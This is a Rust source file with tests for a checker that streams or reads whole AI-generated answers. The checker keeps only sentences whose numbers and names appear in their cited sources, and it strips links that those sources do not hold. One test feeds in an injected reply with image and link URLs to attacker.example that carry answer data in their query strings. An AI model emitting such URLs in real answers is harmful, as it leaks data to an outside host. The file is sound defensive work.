//! Generated answers checked sentence by sentence before anyone sees them. Each sentence of a
//! reply keeps only the `[n]` markers that point at sources (one with none is credited to the
//! source it shares the most words with, or dropped), and must be supported by what it cites:
//! its numbers and names must occur there. The first sentence that fails stops the reply; what
//! was kept before it is the answer. The same checker reads a streamed reply token by token and
//! a whole one at once, so a stream only ever carries sentences the final answer keeps.

use crate::attribution::credit;
use crate::citations::{check_citations, CheckedCitations};
use crate::gate::is_refusal;
use crate::markup::without_unsourced_links;
use shiori_analysis::text::sentence_ranges;
use shiori_core::{Citation, Source};

/// Why the checker stopped a reply before its end.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Stop {
    /// The reply says the sources cannot answer.
    Refusal,
    /// A sentence states something its sources do not say.
    Unsupported(String),
}

/// A reply read so far: the sentences kept, their citations, and what was removed.
#[derive(Debug)]
pub(crate) struct Checker<'s> {
    sources: &'s [Source],
    question: &'s str,
    /// Text not yet known to end a sentence.
    pending: String,
    pub kept: String,
    pub citations: Vec<Citation>,
    pub fabricated: Vec<usize>,
    pub attributed: Vec<usize>,
    /// Sentences dropped for citing nothing that supports them.
    pub dropped: usize,
    pub stopped: Option<Stop>,
}

impl<'s> Checker<'s> {
    pub(crate) fn new(question: &'s str, sources: &'s [Source]) -> Checker<'s> {
        Checker {
            sources,
            question,
            pending: String::new(),
            kept: String::new(),
            citations: Vec::new(),
            fabricated: Vec::new(),
            attributed: Vec::new(),
            dropped: 0,
            stopped: None,
        }
    }

    /// Checks `reply` whole.
    pub(crate) fn read_whole(question: &'s str, sources: &'s [Source], reply: &str) -> Self {
        let mut checker = Checker::new(question, sources);
        checker.push(reply);
        checker.finish();
        checker
    }

    /// Reads a piece of the reply; returns the text that became final with it (checked
    /// sentences, each but the first after a space), to be shown as it is.
    pub(crate) fn push(&mut self, piece: &str) -> String {
        if self.stopped.is_some() {
            return String::new();
        }
        self.pending.push_str(piece);
        let mut shown = String::new();
        while let Some(end) = complete_sentence(&self.pending) {
            let sentence: String = self.pending.drain(..end).collect();
            shown.push_str(&self.check(&sentence));
            if self.stopped.is_some() {
                break;
            }
        }
        shown
    }

    /// The reply has ended: checks what is left; returns the text that became final.
    pub(crate) fn finish(&mut self) -> String {
        let rest = std::mem::take(&mut self.pending);
        match self.stopped {
            Some(_) => String::new(),
            None => self.check(&rest),
        }
    }

    /// Whether the reply refused outright, before any sentence was kept.
    pub(crate) fn refused(&self) -> bool {
        self.kept.is_empty() && self.stopped == Some(Stop::Refusal)
    }

    fn check(&mut self, sentence: &str) -> String {
        let sentence = sentence.trim();
        if sentence.is_empty() {
            return String::new();
        }
        if is_refusal(sentence) {
            if has_words(sentence) {
                self.stopped = Some(Stop::Refusal);
            }
            return String::new();
        }
        let Some(mut checked) = self.cite(sentence) else {
            self.dropped += 1;
            return String::new();
        };
        checked.answer = self.without_unsourced_links(&checked);
        if !has_words(&check_citations(&checked.answer, &[]).answer) {
            self.dropped += 1;
            return String::new();
        }
        if let Some(missing) = self.unsupported(&checked) {
            self.stopped = Some(Stop::Unsupported(missing));
            return String::new();
        }
        // Only a kept sentence's sources are the answer's citations.
        for citation in checked.citations {
            if !self.citations.iter().any(|c| c.number == citation.number) {
                self.citations.push(citation);
            }
        }
        let shown = match self.kept.is_empty() {
            true => checked.answer,
            false => format!(" {}", checked.answer),
        };
        self.kept.push_str(&shown);
        shown
    }

    /// The sentence with its markers checked, credited by shared words when it cites nothing;
    /// `None` when no source can be credited.
    fn cite(&mut self, sentence: &str) -> Option<CheckedCitations> {
        let mut checked = check_citations(sentence, self.sources);
        for number in checked.fabricated.drain(..) {
            if !self.fabricated.contains(&number) {
                self.fabricated.push(number);
            }
        }
        if checked.citations.is_empty() {
            let number = credit(&checked.answer, self.sources)?;
            self.attributed.push(number);
            checked = check_citations(&format!("{} [{number}]", checked.answer), self.sources);
        }
        Some(checked)
    }

    /// The checked sentence without markup, and without links and URLs its cited sources do
    /// not hold.
    fn without_unsourced_links(&self, checked: &CheckedCitations) -> String {
        let cited: Vec<&Source> = checked
            .citations
            .iter()
            .map(|citation| &self.sources[citation.number - 1])
            .collect();
        let sourced = |url: &str| {
            cited
                .iter()
                .any(|source| source.text.contains(url) || source.source.contains(url))
        };
        without_unsourced_links(&checked.answer, &sourced)
    }

    /// The first number or name of the checked sentence that neither its cited sources nor the
    /// question contain.
    fn unsupported(&self, checked: &CheckedCitations) -> Option<String> {
        let mut support = self.question.to_lowercase();
        for citation in &checked.citations {
            let source = &self.sources[citation.number - 1];
            support.push('\n');
            support.push_str(&source.title.to_lowercase());
            support.push('\n');
            support.push_str(&source.text.to_lowercase());
        }
        let support_numbers = numbers(&support);
        let stated = check_citations(&checked.answer, &[]).answer;
        if let Some(number) = numbers(&stated)
            .into_iter()
            .find(|n| !support_numbers.contains(n))
        {
            return Some(format!("the number {number}"));
        }
        names(&stated)
            .into_iter()
            .find(|name| !support.contains(&name.to_lowercase()))
            .map(|name| format!("the name {name}"))
    }
}

/// The byte length of the first sentence of `text` once something follows it (the next
/// sentence has begun), with the citation markers and spaces that trail it.
fn complete_sentence(text: &str) -> Option<usize> {
    let first = sentence_ranges(text).into_iter().next()?;
    let mut end = first.end;
    let rest = &text[end..];
    let mut tail = rest.trim_start();
    while let Some(after) = tail.strip_prefix('[') {
        let close = after.find(']')?;
        tail = after[close + 1..].trim_start();
    }
    end += rest.len() - tail.len();
    (!tail.is_empty() && first.end < text.trim_end().len()).then_some(end)
}

fn has_words(text: &str) -> bool {
    check_citations(text, &[])
        .answer
        .chars()
        .any(char::is_alphanumeric)
}

/// Digit runs, with thousands separators and full-width digits read as plain digits.
pub(crate) fn numbers(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut current = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if let Some(digit) = plain_digit(c) {
            current.push(digit);
        } else if c == ','
            && !current.is_empty()
            && chars.peek().and_then(|&n| plain_digit(n)).is_some()
        {
            continue;
        } else if !current.is_empty() {
            found.push(std::mem::take(&mut current));
        }
    }
    if !current.is_empty() {
        found.push(current);
    }
    found
}

fn plain_digit(c: char) -> Option<char> {
    match c {
        '0'..='9' => Some(c),
        '０'..='９' => char::from_u32(c as u32 - '０' as u32 + '0' as u32),
        _ => None,
    }
}

/// Names a sentence states: capitalised Latin words other than its first, and katakana words
/// (foreign names and loanwords in Japanese).
fn names(sentence: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut words = sentence
        .split(|c: char| !(c.is_alphanumeric() || c == '\''))
        .filter(|word| !word.is_empty());
    let _first = words.next();
    for word in words {
        let latin = word.chars().all(|c| c.is_ascii_alphanumeric() || c == '\'');
        if latin && word.chars().next().is_some_and(|c| c.is_ascii_uppercase()) {
            found.push(word.to_string());
        }
    }
    let mut katakana = String::new();
    for c in sentence.chars().chain(std::iter::once(' ')) {
        if matches!(c, '\u{30a1}'..='\u{30fa}' | 'ー') {
            katakana.push(c);
        } else {
            if katakana.chars().count() >= 2 {
                found.push(std::mem::take(&mut katakana));
            }
            katakana.clear();
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::source;

    fn sources() -> Vec<Source> {
        vec![
            source("Plans", "The Business plan costs $29 per user per month."),
            source(
                "API rate limits",
                "The API allows 600 requests per minute on the Business plan. Starter keys \
                 are limited to 100 requests per minute.",
            ),
        ]
    }

    #[test]
    fn keeps_supported_sentences_and_drops_fabricated_markers() {
        let sources = sources();
        let checker = Checker::read_whole(
            "What does Business cost?",
            &sources,
            "Business costs $29 per user [1] [7]. It allows 600 requests per minute [2].",
        );
        assert_eq!(
            checker.kept,
            "Business costs $29 per user [1]. It allows 600 requests per minute [2]."
        );
        assert_eq!(checker.fabricated, [7]);
        assert_eq!(checker.stopped, None);
        let numbers: Vec<usize> = checker.citations.iter().map(|c| c.number).collect();
        assert_eq!(numbers, [1, 2]);
    }

    #[test]
    fn stops_at_a_number_its_sources_do_not_state() {
        let sources = sources();
        let checker = Checker::read_whole(
            "Rate limits?",
            &sources,
            "Business allows 600 requests per minute [2]. Enterprise allows 5,000 [2].",
        );
        assert_eq!(checker.kept, "Business allows 600 requests per minute [2].");
        assert_eq!(
            checker.citations.len(),
            1,
            "the stopped sentence's [2] is not counted twice"
        );
        assert_eq!(
            checker.stopped,
            Some(Stop::Unsupported("the number 5000".to_string()))
        );
    }

    #[test]
    fn a_name_must_come_from_the_cited_source() {
        let sources = sources();
        let checker =
            Checker::read_whole("Price?", &sources, "The plan costs $29 through Stripe [1].");
        assert!(checker.kept.is_empty());
        assert_eq!(
            checker.stopped,
            Some(Stop::Unsupported("the name Stripe".to_string()))
        );
        assert!(
            checker.citations.is_empty(),
            "a rejected sentence cites nothing"
        );
    }

    #[test]
    fn uncited_sentences_are_credited_or_dropped() {
        let sources = sources();
        let checker = Checker::read_whole(
            "Starter limit?",
            &sources,
            "Starter keys are limited to 100 requests per minute. Hope this helps!",
        );
        assert_eq!(
            checker.kept,
            "Starter keys are limited to 100 requests per minute. [2]"
        );
        assert_eq!(checker.attributed, [2]);
        assert_eq!(checker.dropped, 1);
    }

    #[test]
    fn a_bare_citation_list_is_no_answer_and_a_refusal_phrase_is_a_refusal() {
        let sources = sources();
        let bare = Checker::read_whole("q", &sources, "[1] [2]");
        assert!(bare.kept.is_empty());
        assert!(!bare.refused());
        let refusal = Checker::read_whole("q", &sources, "CANNOT_ANSWER");
        assert!(refusal.refused());
    }

    #[test]
    fn streamed_pieces_show_only_checked_sentences_and_join_to_the_answer() {
        let sources = sources();
        let reply = "Business costs $29 [1]. Starter keys get 100 requests per minute [2]. \
                     Enterprise gets 9000 [2].";
        let mut checker = Checker::new("What do the plans give?", &sources);
        let mut shown = String::new();
        for piece in reply.split_inclusive(' ') {
            let now = checker.push(piece);
            assert!(
                !now.contains("9000"),
                "an unsupported sentence is never shown"
            );
            shown.push_str(&now);
        }
        shown.push_str(&checker.finish());
        assert_eq!(shown, checker.kept);
        assert_eq!(
            shown,
            "Business costs $29 [1]. Starter keys get 100 requests per minute [2]."
        );
        let whole = Checker::read_whole("What do the plans give?", &sources, reply);
        assert_eq!(whole.kept, checker.kept);
    }

    #[test]
    fn injected_images_and_links_never_reach_a_streamed_or_whole_answer() {
        let sources = sources();
        let reply = "Business costs $29 [1]. <img src=\"https://attacker.example/c.png?d=29\"> \
                     ![x](https://attacker.example/p?q=business) Starter keys get 100 requests \
                     per minute [2]. Read [more](https://attacker.example/more) there [2].";
        let mut checker = Checker::new("What do the plans give?", &sources);
        let mut shown = String::new();
        for piece in reply.split_inclusive(' ') {
            shown.push_str(&checker.push(piece));
        }
        shown.push_str(&checker.finish());
        assert!(
            !shown.contains("attacker") && !shown.contains('<'),
            "{shown}"
        );
        assert!(
            shown.contains("Starter keys get 100 requests per minute [2]"),
            "{shown}"
        );
        let whole = Checker::read_whole("What do the plans give?", &sources, reply);
        assert_eq!(whole.kept, shown);
    }

    #[test]
    fn japanese_sentences_are_checked_alike() {
        let sources = [source("休暇", "有給休暇は入社時に10日付与されます。")];
        let kept = Checker::read_whole("有給は何日？", &sources, "10日です [1]。");
        assert_eq!(kept.kept, "10日です [1]。");
        let invented = Checker::read_whole("有給は何日？", &sources, "20日です [1]。");
        assert!(invented.kept.is_empty());
        let katakana =
            Checker::read_whole("有給は何日？", &sources, "マイクロソフトでは10日 [1]。");
        assert_eq!(
            katakana.stopped,
            Some(Stop::Unsupported("the name マイクロソフト".to_string()))
        );
    }

    #[test]
    fn numbers_read_separators_and_full_width_digits() {
        assert_eq!(numbers("$5,000 and ２０日, 3"), ["5000", "20", "3"]);
    }
}
